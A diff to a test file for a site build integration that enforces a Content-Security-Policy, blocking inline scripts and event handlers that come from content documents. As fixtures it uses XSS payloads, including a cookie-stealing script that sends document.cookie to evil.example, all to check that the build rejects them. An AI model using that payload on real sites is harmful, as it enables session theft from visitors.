@@ -1,19 +1,42 @@
 // The Content-Security-Policy blesses only the inline scripts the build wrote itself (the compiled
-// scripts of the site's components); any other inline script in a page stops the build.
+// scripts of the site's components); any other inline script or event handler in a page stops the
+// build, naming the page and the document and field its code came from.
 import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Plugin } from 'vite';
+import { findElements } from '../../../src/build/html.ts';
 import csp from '../../../src/integrations/csp';
-import { getSiteContent } from '../../../src/data/content';
+import { buildReportWriter, type BuildReport } from '../../../src/data/build-report';
+import { buildScope } from '../../../src/data/build-scope';
+import { getSiteContent, type Article, type SiteContent } from '../../../src/data/content';
+import { articlePath } from '../../../src/lib/routes';
 
 const QUICK_EXIT = 'var e=`[data-quick-exit]`;document.querySelector(e);';
 const page = (body: string) => `<!DOCTYPE html><html lang="sv"><head><meta charset="utf-8"><title>Sida</title></head><body>${body}</body></html>`;
 
 let dir: string | undefined;
-afterEach(() => dir && rmSync(dir, { recursive: true, force: true }));
+let loaded: SiteContent | undefined;
+afterEach(() => {
+  if (dir) rmSync(dir, { recursive: true, force: true });
+  // A test that changed the build's content or report gives the next one the build's own back.
+  if (loaded) buildScope().content = Promise.resolve(loaded);
+  buildScope().report = null;
+});
+
+/** The build's content with the first Swedish article changed by `change`; returns that article. */
+async function withArticle(change: (article: Article) => Article): Promise<Article> {
+  loaded = await getSiteContent();
+  const sv = loaded.locales.sv;
+  const article = change(sv.articles[0]!);
+  buildScope().content = Promise.resolve({ ...loaded, locales: { ...loaded.locales, sv: { ...sv, articles: [article, ...sv.articles.slice(1)] } } });
+  return article;
+}
+
+/** The file an article's page is written to. */
+const pageOf = (article: Article) => `${articlePath(article.slug).slice(1)}index.html`;
 
 /** Runs the integration as a build would: the content loaded for the pages, the client bundle with the component scripts, then the pages. */
 async function build(pages: Record<string, string>, chunks: Record<string, { facadeModuleId: string | null; code: string }> = {}, components: Record<string, string> = {}) {
@@ -84,6 +107,51 @@ describe('the Content-Security-Policy', () => {
     const read = await build({ 'index.html': page('<script type="application/ld+json">{"@type":"Article"}</script>') });
     expect(read('index.html')).not.toMatch(/script-src[^;]*sha256/);
     await expect(build({ 'index.html': page('<script type="application/ld+json">alert(1)</script>') })).rejects.toThrow(/not JSON/);
+  });
+
+  it('passes a page whose text and attribute values only look like scripts (a title pasted from a web page), and hashes nothing for them', async () => {
+    const pasted = '<script>alert(1)</script>';
+    const html = page(`<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1><data value="${pasted}" data-pagefind-meta="keywords[value]"></data><img alt="${pasted}" src="/x.png"><textarea>${pasted}</textarea>`)
+      .replace('<title>Sida</title>', '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><meta name="description" content="<script>alert(1)</script>">');
+    const read = await build({ 'artiklar/x/index.html': html });
+    expect(read('artiklar/x/index.html')).not.toMatch(/script-src[^;]*sha256/);
+    const [title] = findElements(read('artiklar/x/index.html'), (tag) => tag.name === 'title');
+    expect(title!.text).toBe(pasted);
+  });
+
+  it('hashes a script the build wrote itself in a page that also shows such text, and the build passes', async () => {
+    const read = await build({ 'index.html': page(`<p title="<script>alert(1)</script>">Text</p><script type="module">${QUICK_EXIT}</script>`) }, quickExitChunk);
+    expect(read('index.html').match(/'sha256-/g)).toHaveLength(1);
+  });
+
+  it('stops the build on an inline script that came from a document, naming the page, the document and the field, also in the build report', async () => {
+    const article = await withArticle((first) => ({ ...first, summary: `Läs mer. <script>fetch("https://evil.example/?"+document.cookie)</script>` }));
+    const reportFile = join(tmpdir(), `csp-report-${process.pid}.json`);
+    buildScope().report = buildReportWriter(reportFile);
+    // A page that wrote the summary out unescaped, as a template mistake would.
+    const written = page(`<h1>${article.title}</h1><p>${article.summary}</p>`);
+    const failure = build({ [pageOf(article)]: written }).then(() => null, (error: unknown) => error as Error & { documents: unknown });
+    const error = await failure;
+    expect(error?.message).toContain(`${pageOf(article)}: an inline script the build did not write: "fetch(\\"https://evil.example/?\\"+document.cookie)" (from document "${article._id}", field summary)`);
+    expect(error?.documents).toEqual([{ documentId: article._id, field: 'summary' }]);
+    const report = JSON.parse(readFileSync(reportFile, 'utf8')) as BuildReport;
+    rmSync(reportFile);
+    expect('error' in report && report.error.documents).toEqual([{ documentId: article._id, field: 'summary' }]);
+  });
+
+  it('names the field inside an article’s body that holds a script shown on another page, such as the start page’s list of articles', async () => {
+    const article = await withArticle((first) => ({ ...first, body: [{ _type: 'block', _key: 'b1', style: 'normal', markDefs: [], children: [{ _type: 'span', _key: 's1', marks: [], text: 'Se <script>alert("kropp")</script>' }] }] as Article['body'] }));
+    await expect(build({ 'index.html': page('<ul><li>Se <script>alert("kropp")</script></li></ul>') })).rejects.toThrow(
+      `index.html: an inline script the build did not write: "alert(\\"kropp\\")" (from document "${article._id}", field body[_key=="b1"].children[_key=="s1"].text)`,
+    );
+  });
+
+  it('stops the build on an event handler attribute, which the policy never runs, naming the document it came from', async () => {
+    const article = await withArticle((first) => ({ ...first, title: 'Sömn <img src="x" onerror="alert(2)">' }));
+    await expect(build({ [pageOf(article)]: page(`<h1>${article.title}</h1>`) })).rejects.toThrow(
+      `an event handler attribute (onerror on <img>), which the build never writes: "alert(2)" (from document "${article._id}", field title)`,
+    );
+    await expect(build({ 'index.html': page('<button onclick="history.back()">Tillbaka</button>') })).rejects.toThrow(/index\.html: an event handler attribute \(onclick on <button>\)/);
   });
 
   it('allows scripts loaded from the site itself without hashing them', async () => {
